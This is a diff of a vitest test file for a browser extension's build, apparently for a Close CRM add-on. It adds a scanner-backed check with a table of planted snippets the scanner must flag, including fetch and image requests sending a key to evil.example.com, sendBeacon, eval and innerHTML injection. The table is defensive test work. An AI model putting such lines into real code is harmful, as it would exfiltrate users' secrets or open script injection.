@@ -1,55 +1,62 @@
 import { readdir, readFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { expect, it } from 'vitest';
+import { scan } from './harness/package-scan.ts';
 
-// What the store would get. Links to documentation that libraries keep in their messages are listed by name.
+// What the store would get.
 const build = '.output/chrome-mv3';
-const hosts = new Set(['api.close.com', 'app.close.com']);
-const mentioned = new Set(['github.com', 'wxt.dev', 'www.w3.org']);
 
-async function texts(): Promise<{ file: string; text: string }[]> {
+it('names no host but those of Close, makes neither code nor markup from text, and goes nowhere by itself', async () => {
   const files = await readdir(build, { recursive: true });
   const readable = files.filter((file) => /\.(js|html|css|json)$/.test(file));
-  return Promise.all(
-    readable.map(async (file) => ({ file, text: await readFile(join(build, file), 'utf8') })),
+  expect(readable.length).toBeGreaterThan(20);
+  const found = await Promise.all(
+    readable.map(async (file) => scan(file, await readFile(join(build, file), 'utf8'))),
   );
-}
-
-it('names no host but those of Close', async () => {
-  const all = await texts();
-  expect(all.length).toBeGreaterThan(8);
-  for (const { file, text } of all) {
-    for (const [, host = ''] of text.matchAll(/\b(?:https?|wss?):\/\/([\w-]+(?:\.[\w-]+)+)/g)) {
-      expect(hosts.has(host) || mentioned.has(host), `${file} names ${host}`).toBe(true);
-    }
-  }
+  expect(found.flat()).toEqual([]);
 });
 
-it('makes no code from text', async () => {
-  for (const { file, text } of await texts()) {
-    expect(text, file).not.toMatch(/\beval\s*\(|\bnew Function\b|\bimportScripts\s*\(|\bdocument\.write\b/);
-  }
-});
-
-it('goes nowhere by itself, and talks past no policy', async () => {
-  for (const { file, text } of await texts()) {
-    // A policy of the browser holds back neither a page that leaves nor WebRTC, so nothing here may do either.
-    expect(text, file).not.toMatch(
-      /\bRTCPeerConnection\b|\bWebTransport\b|\bwindow\.open\b|\blocation\.(?:assign|replace)\b|\.submit\(/,
-    );
-    expect(text, file).not.toMatch(/\blocation(?:\.href)?\s*=(?!=)/);
-    expect(text, file).not.toMatch(/\bsendBeacon\b|\bnew WebSocket\b|\bnew EventSource\b|\bXMLHttpRequest\b/);
-  }
-});
-
-it('writes no markup but where Preact could be told to, which nobody does', async () => {
-  for (const { file, text } of await texts()) {
-    expect(text, file).not.toMatch(
-      /\b(?:outerHTML|insertAdjacentHTML|setHTMLUnsafe)\b|\.innerHTML\s*\+?=[^=]*["'`]/,
-    );
-    // The library itself looks for it; a component that used it would be one more.
-    expect(text.match(/\bdangerouslySetInnerHTML\b/g)?.length ?? 0, file).toBeLessThanOrEqual(3);
-  }
+it.each([
+  ['a.js', "fetch('https://evil.example.com/?key')"],
+  ['a.js', "image.src = '//evil.example.com/?key'"],
+  ['a.css', '@import url(//evil.example.com/out.css)'],
+  ['a.js', "(0, eval)('1')"],
+  ['a.js', "new Function('return 1')"],
+  ['a.js', "Function('return 1')()"],
+  ['a.js', "importScripts('/out.js')"],
+  ['a.js', "document.writeln('<p>')"],
+  ['a.js', 'window.open(address + key)'],
+  ['a.js', 'location.assign(address + key)'],
+  ['a.js', 'location = address + key'],
+  ['a.js', 'window.location.href = address + key'],
+  ['a.js', 'chrome.tabs.update(tabId, { url: address + key })'],
+  ['a.js', 'form.submit()'],
+  ['a.js', 'form.requestSubmit()'],
+  ['a.html', '<meta http-equiv="refresh" content="0; url=/chunks/x">'],
+  ['a.html', '<link rel="preconnect" href="/chunks/x">'],
+  ['a.html', '<link rel=dns-prefetch href=//evil.example>'],
+  ['a.html', '<link rel="icon" href="/chunks/x">'],
+  ['a.html', '<img src=//evil>'],
+  ['a.html', '<form action="../out">'],
+  ['a.js', "link.rel = 'dns-prefetch'"],
+  ['a.js', 'link.relList.add(`preconnect`)'],
+  ['a.js', "element('link', { rel: 'prefetch' })"],
+  ['a.js', "script.type = 'speculationrules'"],
+  ['a.html', '<script type="speculationrules">{}</script>'],
+  ['a.js', 'new RTCPeerConnection()'],
+  ['a.js', 'new WebTransport(address)'],
+  ['a.js', 'navigator.sendBeacon(address, key)'],
+  ['a.js', 'fetchLater(address)'],
+  ['a.js', 'new WebSocket(address)'],
+  ['a.js', 'new EventSource(address)'],
+  ['a.js', 'new XMLHttpRequest()'],
+  ['a.js', 'element.outerHTML = name'],
+  ['a.js', "element.innerHTML = '<b>' + name"],
+  ['a.js', 'element.innerHTML += name'],
+  ['a.js', "frame.srcdoc = '<b>' + name"],
+  ['a.js', 'dangerouslySetInnerHTML '.repeat(4)],
+])('would not be shipped with this in %s: %s', (file, planted) => {
+  expect(scan(file, planted)).not.toEqual([]);
 });
 
 it('asks for what docs/permissions.md explains, and for nothing else', async () => {
@@ -70,13 +77,4 @@ it('asks for what docs/permissions.md explains, and for nothing else', async () 
     ...optional_permissions,
     ...optional_host_permissions,
   ]);
-});
-
-it('loads no script or style from elsewhere', async () => {
-  for (const { file, text } of await texts()) {
-    if (!file.endsWith('.html')) continue;
-    for (const [, address = ''] of text.matchAll(/\s(?:src|href)="([^"]+)"/g)) {
-      expect(address, file).toMatch(/^\/(chunks|assets)\//);
-    }
-  }
 });
